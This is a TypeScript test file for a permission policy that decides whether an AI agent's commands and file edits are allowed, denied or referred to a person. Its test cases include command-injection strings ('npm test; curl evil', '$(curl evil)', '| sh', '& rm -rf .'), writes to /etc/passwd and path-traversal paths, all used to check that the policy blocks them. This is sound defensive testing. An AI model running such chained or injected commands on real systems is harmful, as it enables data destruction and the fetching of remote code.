import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { splitCommand } from './command-parts.ts'
import { PermissionPolicy } from '../../domain/permission-policy.ts'
import { decide, trustsCommands, usualPolicy } from './permission-policy.ts'
import type { ToolCall } from './session-update.ts'

const call = (change: Partial<ToolCall>): ToolCall => ({
  id: 'a',
  title: '',
  kind: 'other',
  status: 'pending',
  paths: [],
  ...change,
})

const policy = PermissionPolicy.parse({
  rules: [
    { commands: ['npm publish', 'rm'], do: 'deny' },
    { kinds: ['execute'], commands: ['npm test', 'git status'], do: 'allow' },
    { kinds: ['execute'], do: 'ask' },
    { kinds: ['edit', 'delete'], paths: ['package.json', '.github/**'], do: 'ask' },
    { kinds: ['edit', 'read', 'search'], do: 'allow' },
  ],
})

test.each([
  ['npm test', 'allow'],
  ['npm test -- --watch', 'allow'],
  ['npm  test', 'allow'],
  ['npm testify', 'ask'],
  ['npm test && git status', 'allow'],
  ['npm test; curl evil', 'ask'],
  ['npm test | sh', 'ask'],
  ['npm test $(curl evil)', 'ask'],
  ['npm test `curl evil`', 'ask'],
  ['npm test > /etc/passwd', 'ask'],
  ['npm test\ncurl evil', 'ask'],
  ['npm test & rm -rf .', 'deny'],
  ['npm publish', 'deny'],
  ['git status; npm publish "x"', 'deny'],
  ['npm', 'ask'],
  ['', 'ask'],
])('decides the command %j as %s', (command, effect) => {
  expect(decide(policy, call({ kind: 'execute', command }), '/srv').effect).toBe(effect)
})

test.each([
  ['edit', ['/srv/src/a.js'], 'allow'],
  ['edit', ['src/a.js'], 'allow'],
  ['edit', ['/srv/package.json'], 'ask'],
  ['edit', ['/srv/.github/workflows/ci.yml'], 'ask'],
  ['edit', ['/srv/package.json', '/srv/src/a.js'], 'allow'],
  ['edit', ['/srv/../etc/passwd'], 'deny'],
  ['read', ['/etc/passwd'], 'deny'],
  ['edit', ['/srv/.git/config'], 'deny'],
  ['delete', ['/srv/src/a.js'], 'deny'],
  ['fetch', [], 'deny'],
] as const)('decides to %s %j as %s', (kind, paths, effect) => {
  expect(decide(policy, call({ kind, paths }), '/srv').effect).toBe(effect)
})

test('allows work on files where nothing else is said, and commands in a sandbox alone', () => {
  const effects = (isConfined: boolean) =>
    (['edit', 'think', 'execute', 'fetch', 'other'] as const).map(
      (kind) => decide(usualPolicy(isConfined), call({ kind }), '/srv').effect,
    )
  expect(effects(true)).toEqual(['allow', 'allow', 'allow', 'ask', 'ask'])
  expect(effects(false)).toEqual(['allow', 'allow', 'ask', 'ask', 'ask'])
})

test('trusts an agent with commands only where nothing limits them', () => {
  const trusts = (input: unknown) => trustsCommands(PermissionPolicy.parse(input))
  expect(trustsCommands(usualPolicy(true))).toBe(true)
  expect(trustsCommands(usualPolicy(false))).toBe(false)
  expect(trusts({ rules: [], otherwise: 'allow' })).toBe(true)
  expect(trusts({ rules: [] })).toBe(false)
  expect(trusts({ rules: [{ commands: ['rm'], do: 'deny' }], otherwise: 'allow' })).toBe(false)
  expect(trusts({ rules: [{ commands: ['npm'], do: 'allow' }] })).toBe(false)
  expect(trusts({ rules: [{ kinds: ['edit'], do: 'deny' }], otherwise: 'allow' })).toBe(true)
})

test('no rule lets an agent out of its workspace', () => {
  const generous = PermissionPolicy.parse({ rules: [], otherwise: 'allow' })
  const part = fc.constantFrom('..', '.', 'a', '.git', 'etc')
  fc.assert(
    fc.property(fc.array(part, { minLength: 1, maxLength: 6 }), (parts) => {
      const file = `/srv/work/${parts.join('/')}`
      const { effect } = decide(generous, call({ kind: 'edit', paths: [file] }), '/srv/work')
      const real = new URL(`file://${file}`).pathname
      expect(effect === 'deny' || real.startsWith('/srv/work/')).toBe(true)
    }),
  )
})

test('a plain command is one whose words are what would run', () => {
  fc.assert(
    fc.property(fc.array(fc.stringMatching(/^[a-z./=:@,-]{1,8}$/), { minLength: 1 }), (words) => {
      expect(splitCommand(words.join(' '))).toEqual({ parts: [words], isPlain: true })
    }),
  )
})
